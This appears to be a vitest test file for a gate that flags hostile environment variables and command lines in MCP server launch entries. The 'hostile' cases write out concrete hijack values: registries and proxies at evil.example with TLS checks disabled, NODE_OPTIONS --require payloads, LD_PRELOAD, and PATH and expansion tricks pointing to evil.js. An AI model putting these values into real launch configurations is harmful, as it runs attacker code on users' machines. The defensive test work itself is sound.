/*
 * Variables as the exception: one that a program of the launch reads counts unless it is known to be
 * harmless. Any other counts if it leads to more than data in the tree.
 */
import { describe } from 'vitest';
import { type Case, type FileContent, type Files, good, mcp, playCases } from './cases.ts';

type Environment = Readonly<Record<string, string>>;
type Head = Readonly<Record<string, FileContent | null>>;

const uvx = { command: 'uvx', args: ['fictional-mcp-weather@2.1.0'] };
const docker = { command: 'docker', args: ['run', '-i', 'registry.example/fictional/maps:2.0.1'] };
const pnpm = { command: 'pnpm', args: ['dlx', '@fictional-mcp/notes@1.4.0'] };
const go = { command: 'go', args: ['run', 'example.com/fictional/notes@v1.0.0'] };
const dnx = { command: 'dnx', args: ['Fictional.Notes@1.0.0', '--yes'] };

/** The gate's verdict on an altered launch; if the registry changes, the grade is lost, too. */
const altered = /^changed: altered-launch/;

/** An environment that the change adds, in a tree with some files. */
function comes(
  env: Environment,
  expected: string | RegExp,
  files: Files,
  entry: object = good,
): Case {
  return {
    name: `${JSON.stringify(env)}${Object.keys(files).length > 0 ? ` beside ${Object.keys(files)}` : ''} ${expected === 'unchanged' ? 'is quiet' : 'counts'}`,
    base: { ...files, ...mcp(entry) },
    head: mcp({ ...entry, env }),
    expected,
  };
}

const alters = (env: Environment, files: Files = {}, entry: object = good): Case =>
  comes(env, altered, files, entry);
const isQuiet = (env: Environment, files: Files = {}, entry: object = good): Case =>
  comes(env, 'unchanged', files, entry);

/** An environment that stays the same while files change. */
function stays(env: Environment, base: Files, head: Head, expected: string | RegExp): Case {
  return {
    name: `${JSON.stringify(env)} while ${Object.keys(head)} changes`,
    base: { ...base, ...mcp({ ...good, env }) },
    head,
    expected,
  };
}

/** A command and arguments that replace those of the entry. */
function starts(
  command: string,
  args: readonly string[],
  expected: string | RegExp,
  files: Files = {},
): Case {
  return {
    name: [command, ...args].join(' '),
    base: { ...files, ...mcp(good) },
    head: mcp({ command, args }),
    expected,
  };
}

/** Returns an entry's command and arguments as one list. */
function line({ command, args }: typeof good): string[] {
  return [command, ...args];
}

const code: Files = { 'evil.js': 'run()' };
const folder: Files = { 'plugins/a/index.js': 'run()' };

describe('hostile', () => {
  playCases([
    // Open variable spaces: any name counts, in any spelling.
    ...[
      'NPM_CONFIG_registry',
      'Npm_Config_Registry',
      'npm_config_script-shell',
      'npm_config_node_gyp',
      'npm_config_git',
      'npm_config_userconfig',
      'npm_config_globalconfig',
      'npm_config_@fictional-mcp:registry',
      'NPM_CONFIG_@fictional_mcp:registry',
      'npm_config_electron_mirror',
      'npm_config_a_setting_of_tomorrow',
      'pnpm_config_registry',
      'NODE_OPTIONS ',
      'LD_AUDIT',
      'ld_preload',
      'DYLD_INSERT_LIBRARIES',
      'OPENSSL_CONF',
      'OPENSSL_MODULES',
      'XDG_CONFIG_HOME',
      'XDG_CONFIG_DIRS',
      'XDG_DATA_HOME',
      'MISE_SHELL',
      'ASDF_NODEJS_VERSION',
      'VOLTA_HOME',
      'HOME',
      'USERPROFILE',
      'BASH_ENV',
      'BASH_FUNC_npx%%',
      'SHELLOPTS',
      'NODE_PATH',
      'NODE_REPL_EXTERNAL_MODULE',
      'HOSTALIASES',
      'JSR_URL',
      'PREFIX',
    ].map((name) => alters({ [name]: './x' })),
    ...['UV_PYTHON_INSTALL_DIR', 'UV_TOOL_DIR', 'UV_CACHE_DIR', 'UV_PYTHON', 'UV_A_NEW_NAME'].map(
      (name) => alters({ [name]: './p' }, {}, uvx),
    ),
    ...[
      'PYTHONHOME',
      'PYTHONUSERBASE',
      'PYTHONBREAKPOINT',
      'PYTHONPYCACHEPREFIX',
      'PYENV_ROOT',
    ].map((name) => alters({ [name]: 'p' }, {}, uvx)),
    ...['DOCKER_HOST', 'DOCKER_CONFIG', 'CONTAINERS_CONF', 'REGISTRY_AUTH_FILE'].map((name) =>
      alters({ [name]: './p' }, {}, docker),
    ),
    ...['GOFLAGS', 'GOPROXY', 'GOTOOLCHAIN', 'GIT_SSH_COMMAND', 'GIT_CONFIG_COUNT'].map((name) =>
      alters({ [name]: './p' }, {}, go),
    ),
    ...['DOTNET_STARTUP_HOOKS', 'CORECLR_PROFILER_PATH', 'NUGET_PLUGIN_PATHS', 'COMPlus_X'].map(
      (name) => alters({ [name]: './p' }, {}, dnx),
    ),
    alters({ COREPACK_NPM_REGISTRY: './x' }, {}, pnpm),
    // Values that look harmless but are not.
    alters({ npm_config_registry: 'http://registry.npmjs.org/' }),
    alters({ npm_config_registry: 'https://registry.npmjs.org.evil.example/' }),
    alters({ npm_config_cache: '/proc/self/cwd/c' }),
    alters({ npm_config_cache: '~/../../workspaces/x/c' }),
    alters({ npm_config_cache: '${workspaceFolder}/c' }),
    alters({ npm_config_cache: '/github/workspace/c' }),
    alters({ npm_config_cache: '//host/share' }),
    alters({ npm_config_strict_ssl: 'false' }),
    alters({ NODE_TLS_REJECT_UNAUTHORIZED: '0' }),
    alters({ NODE_OPTIONS: '--max-old-space-size=4096 --require ./x.js' }),
    alters({ NODE_OPTIONS: '--experimental_loader=./x.mjs' }),
    alters({ NODE_OPTIONS: '$NODE_OPTIONS -r x' }),
    alters({ XDG_CONFIG_DIRS: '/etc/xdg:./d' }),
    alters({ HOME: '' }),
    alters({ HOME: '${PWD}' }),
    alters({ HOME: '/workspaces/repository/home' }),
    alters({ NODE_EXTRA_CA_CERTS: './ca.pem' }),
    alters({ SSL_CERT_FILE: '${workspaceFolder}/ca.pem' }),
    alters({ ENV: './x.sh' }),
    alters({ ENV: 'x.sh' }, { 'x.sh': 'run' }),
    alters({ UV_PYTHON: 'venv' }, { 'venv/bin/python': { executable: '' } }, uvx),
    alters({ PYTHONWARNINGS: 'error::evilmod.X' }, {}, uvx),
    alters({ UV_DEFAULT_INDEX: 'http://pypi.org/simple' }, {}, uvx),
    alters({ UV_INDEX: 'https://pypi.org/simple https://evil.example' }, {}, uvx),
    alters({ DOCKER_HOST: 'unix://./evil.sock' }, {}, docker),
    // Search paths.
    alters({ PATH: './bin:$PATH' }),
    alters({ PATH: '' }),
    alters({ PATH: ':$PATH' }),
    alters({ Path: '.;%PATH%' }),
    alters({ PATH: '%CD%;%PATH%' }),
    alters({ PATH: '~+/bin:/usr/bin' }),
    alters({ PATH: '$PATH:./bin' }, { 'bin/npx': { executable: '' } }),
    alters({ PATH: '${env:PATH}:${workspaceFolder}/bin' }, { 'bin/npx': 'run' }),
    alters({ PATHEXT: '.JS;.COM;.EXE;.BAT;.CMD' }),
    // Any other variable that leads to code in the tree.
    ...[
      './evil.js',
      'evil.js',
      'EVIL.JS',
      'evil.js.',
      '.\\evil.js',
      'file:./evil.js',
      'file:///workspaces/repository/case/../evil.js',
      '${workspaceFolder}/evil.js',
      '${workspaceFolder:main}/evil.js',
      '$PWD/evil.js',
      '${{ github.workspace }}/evil.js',
      '%CD%\\evil.js',
      '~+/evil.js',
      '$(pwd)/evil.js',
      '${NOPE:-./evil.js}',
      '${NOPE:-.}/evil.js',
      '${env:NOPE}evil.js',
      './x/../evil.js',
      '/proc/self/cwd/evil.js',
      '/nothing:./evil.js',
      'a.db;./evil.js',
      '["./evil.js"]',
      'node ./evil.js',
      '--plugin=./evil.js',
      './*.js',
      './ev*l.?s',
      './evil',
      './evil.js?v=1',
      '-r./evil.js',
      '{{cwd}}/evil.js',
      '${NOPE-${ALSO}./evil.js}',
    ].map((value) => alters({ FICTIONAL_VALUE: value }, code)),
    alters({ EXTRA: './dir', MORE: '${EXTRA}/evil' }, { 'dir/evil': 'run' }),
    alters({ PLUGINS: './plugins' }, folder),
    alters({ PLUGIN_DIR: 'plugins' }, folder),
    alters({ PLUGIN_DIR: './plugins/${env:NAME}' }, folder),
    alters({ CONFIG: './settings.yaml' }, { 'settings.yaml': '' }),
    alters({ CONFIG: './settings' }, { settings: '' }),
    alters({ DATA: './data.json' }, { 'data.json': { executable: '{}' } }),
    alters({ DATA: './data.json' }, { 'data.json': { link: 'evil.js' }, ...code }),
    alters({ DATA: './link/a/index.js' }, { link: { link: 'plugins' }, ...folder }),
    alters({ LIB: './vendor/x' }, { 'vendor/x/a.so': 'ELF' }),
    alters({ LIB: './node_modules/x' }, { 'node_modules/x/index.js': '' }),
    alters({ GCONV_PATH: './gconv' }, { 'gconv/gconv-modules': '' }),
    // A proxy together with a variable that makes the program trust the proxy's certificates.
    alters({ HTTPS_PROXY: 'http://evil.example', NODE_TLS_REJECT_UNAUTHORIZED: '0' }),
    alters({ https_proxy: 'http://evil.example', npm_config_cafile: './ca.pem' }),
    // Variables that the command line sets.
    starts('npx', ['--@fictional-mcp:registry=https://evil.example', ...good.args], altered),
    starts(
      'npx',
      ['--@fictional-mcp:registry', 'https://evil.example', ...good.args],
      /^changed: .*\b(?:altered-launch|unidentified)\b/,
    ),
    starts('env', ['npm_config_registry=https://evil.example', ...line(good)], altered),
    starts('env', ['A=./evil.js', ...line(good)], altered, code),
    starts('sh', ['-c', `export NODE_OPTIONS=-r=./x; ${line(good).join(' ')}`], altered),
    starts('bash', ['-c', `PATH+=:./bin ${line(good).join(' ')}`], altered, {
      'bin/npx': 'run',
    }),
    starts('sh', ['-c', `D=.; P=$D/evil.js ${line(good).join(' ')}`], altered, code),
    // Variable files beside an entry that sets the same variable.
    {
      name: 'the same variable in env and envFile',
      base: mcp(good),
      head: {
        ...mcp({ ...good, env: { NODE_OPTIONS: '' }, envFile: '${workspaceFolder}/x.env' }),
        'x.env': 'NODE_OPTIONS=-r ./x.js\n',
      },
      expected: altered,
    },
    // A value that names a file in the tree counts with the file's content.
    stays({ MEMORY_FILE_PATH: 'm.json' }, { 'm.json': '[]' }, { 'm.json': '[1]' }, 'changed'),
    stays({ PLUGIN: './p.js' }, { 'p.js': '1' }, { 'p.js': '2' }, altered),
    stays({ PLUGIN: './p.js' }, {}, { 'p.js': '2' }, altered),
    stays(
      { LIB: './node_modules/x.js' },
      { 'node_modules/x.js': '1' },
      { 'node_modules/x.js': '2' },
      altered,
    ),
    stays({ DATA_DIR: './data' }, { 'data/a.csv': '' }, { 'data/b.js': 'run()' }, altered),
  ]);
});

describe('honest', () => {
  playCases([
    isQuiet(
      {
        NODE_ENV: 'test',
        LOG_LEVEL: 'debug',
        DEBUG: 'mcp:*',
        PORT: '3000',
        MCP_TRANSPORT: 'stdio',
        DATABASE_URL: 'postgresql://me:secret@localhost:5432/app',
        OPENAI_API_KEY: 'sk-abc/def+ghi=',
        GOOGLE_API_KEY: '${input:key}',
        GOOGLE_CLOUD_PROJECT: 'acme',
        AWS_PROFILE: 'default',
        AWS_REGION: 'eu-central-1',
        AZURE_TENANT_ID: '${env:AZURE_TENANT_ID}',
        GITHUB_PERSONAL_ACCESS_TOKEN: '${GITHUB_TOKEN}',
        DOCKER_HOST_ADDR: 'tcp://10.0.0.1',
        FASTMCP_LOG_LEVEL: 'ERROR',
        PLAYWRIGHT_BROWSERS_PATH: '/ms-playwright',
        PUPPETEER_EXECUTABLE_PATH: '/usr/bin/chromium',
        DISPLAY: ':0',
        TZ: 'Europe/Vienna',
        LANG: 'en_US.UTF-8',
        ENV: 'production',
        CI: '1',
        LD_API_KEY: 'api-123',
        NODE_USE_ENV_PROXY: '1',
        SYSTEMROOT: 'C:\\Windows',
      },
      { 'test/a.js': '', 'debug/b.js': '', 'app/c.js': '', 'src/d.js': '' },
    ),
    isQuiet({
      npm_config_loglevel: 'silent',
      NPM_CONFIG_UPDATE_NOTIFIER: 'false',
      npm_config_yes: 'true',
    }),
    isQuiet({ npm_config_cache: '/tmp/npm', NPM_CONFIG_PREFIX: '~/.npm-global' }),
    isQuiet({ npm_config_registry: 'https://registry.npmjs.org/', npm_config_fetch_retries: '5' }),
    isQuiet({
      'npm_config_//npm.acme.example/:_authToken': 'secret',
      npm_config_strict_ssl: 'true',
    }),
    isQuiet({ 'npm_config_@acme:registry': 'https://npm.acme.example/' }),
    isQuiet({ npm_config_scope: '@acme' }),
    isQuiet({
      NODE_OPTIONS: '--max-old-space-size=4096 --use-system-ca --disable-warning=DEP0040',
    }),
    isQuiet({ NODE_OPTIONS: '--max_old_space_size=4096 --no-warnings --use-env-proxy' }),
    isQuiet({ NODE_OPTIONS: '', npm_config_registry: '', PYTHONPATH: '' }),
    isQuiet({ NODE_EXTRA_CA_CERTS: '/etc/ssl/certs/acme.pem', NODE_TLS_REJECT_UNAUTHORIZED: '1' }),
    isQuiet({ SSL_CERT_FILE: '/etc/ssl/acme.pem', REQUESTS_CA_BUNDLE: 'C:\\certs\\acme.pem' }),
    isQuiet({
      HTTP_PROXY: 'http://proxy.acme.example:3128',
      https_proxy: 'http://proxy:3128',
      NO_PROXY: 'localhost',
    }),
    isQuiet({ NO_PROXY: 'localhost,127.0.0.1' }),
    isQuiet({ HTTPS_PROXY: 'http://proxy:3128', NODE_EXTRA_CA_CERTS: '/etc/acme.pem' }),
    isQuiet({
      HOME: '${HOME}',
      PATH: '${PATH}',
      APPDATA: '%APPDATA%',
      HTTPS_PROXY: '${HTTPS_PROXY}',
    }),
    isQuiet({ HOME: '/home/me', XDG_CONFIG_HOME: '${HOME}/.config', XDG_SESSION_TYPE: 'wayland' }),
    isQuiet({ APPDATA: 'C:\\Users\\me\\AppData\\Roaming', PATHEXT: '.COM;.EXE;.BAT;.CMD;.VBS' }),
    isQuiet({ PATH: '/opt/homebrew/bin:/usr/local/bin:/usr/bin:/bin' }),
    isQuiet({ PATH: '/home/me/.nvm/versions/node/v24/bin:$PATH' }),
    isQuiet({ PATH: '$PATH:./node_modules/.bin:/home/me/bin' }),
    isQuiet({ PATH: 'C:\\Program Files\\nodejs;%PATH%' }),
    isQuiet({ OPENSSL_CONF: '/dev/null', LD_LIBRARY_PATH: '' }),
    isQuiet(
      { UV_SYSTEM_PYTHON: '1', UV_PYTHON: '3.12', UV_HTTP_TIMEOUT: '60', UV_NO_CACHE: '1' },
      {},
      uvx,
    ),
    isQuiet({ UV_CACHE_DIR: '~/.cache/uv', UV_DEFAULT_INDEX: 'https://pypi.org/simple' }, {}, uvx),
    isQuiet({ UV_INDEX_ACME_PASSWORD: 'secret', UV_LINK_MODE: 'copy' }, {}, uvx),
    isQuiet(
      { PYTHONUNBUFFERED: '1', PYTHONIOENCODING: 'utf-8', PYTHONWARNINGS: 'ignore' },
      {},
      uvx,
    ),
    isQuiet({ PYTHON_ENV: 'x', PYTHON_VERSION: '3.12', PYTHONUTF8: '1' }, {}, uvx),
    isQuiet({ DOCKER_HOST: 'unix:///var/run/docker.sock', DOCKER_CONFIG: '~/.docker' }, {}, docker),
    isQuiet(
      { DOTNET_ENVIRONMENT: 'Production', DOTNET_gcServer: '0', NUGET_PACKAGES: '/n' },
      {},
      dnx,
    ),
    isQuiet(
      { CGO_ENABLED: '0', GOMAXPROCS: '2', GOCACHE: '/tmp/go', GIT_AUTHOR_NAME: 'me' },
      {},
      go,
    ),
    // Variables that only programs in other launches read.
    isQuiet({ GOFLAGS: '-mod=mod', UV_INDEX: 'pypi.acme.example', DOTNET_X: '1' }),
    isQuiet({ GIT_SSH_COMMAND: 'ssh -i ~/.ssh/key', RUBYOPT: '-W0' }),
    // Paths that lead out of the tree or to nothing.
    isQuiet({ CONFIG: '/etc/acme/evil.js', OUT: './out', STORE: '${userHome}/evil.js' }, code),
    isQuiet({ DB: 'sqlite:///var/lib/app.db', KEY: 'a/b/c', KUBECONFIG: '~/.kube/config' }, code),
    isQuiet({ INCLUDE: '**/*.js', IGNORE: 'node_modules,dist,*.log', KIND: '*types*' }, code),
    isQuiet({ TARGET: 'plugins', MODE: 'plugins' }, folder),
    starts('env', ['LOG_LEVEL=debug', 'NODE_ENV=production', ...line(good)], 'changed'),
    // Data and the project itself alter no launch; they count with their name, value and content.
    comes({ MEMORY_FILE_PATH: '.github/memory/memory.json' }, 'changed', {
      '.github/memory/memory.json': '[]',
    }),
    comes({ REPO_ROOT: '.' }, 'changed', code),
    // Nor does an address alter a launch, as it may be that of any service.
    comes({ API_BASE_URL: 'https://api.acme.example/v1/src' }, 'changed', {}),
    comes({ UV_INDEX_URL: 'https://pypi.acme.example' }, 'changed', {}),
    comes({ API_URL: 'https://acme.example/plugins/a/index.js' }, 'changed', folder),
    comes({ PROJECT: '${workspaceFolder}/' }, 'changed', code),
    comes({ DOCS_DIR: './docs' }, 'changed', { 'docs/a/b.md': '' }),
    comes({ DATABASE_URL: 'file:./dev.db' }, 'changed', { 'dev.db': '' }),
    stays({ REPO_ROOT: '.' }, code, { 'evil.js': 'other()' }, 'unchanged'),
    stays({ MEMORY_FILE_PATH: 'm.json' }, {}, { 'n.json': '[1]' }, 'unchanged'),
    stays({ API_URL: 'a' }, code, { 'evil.js': 'other()' }, 'unchanged'),
  ]);
});
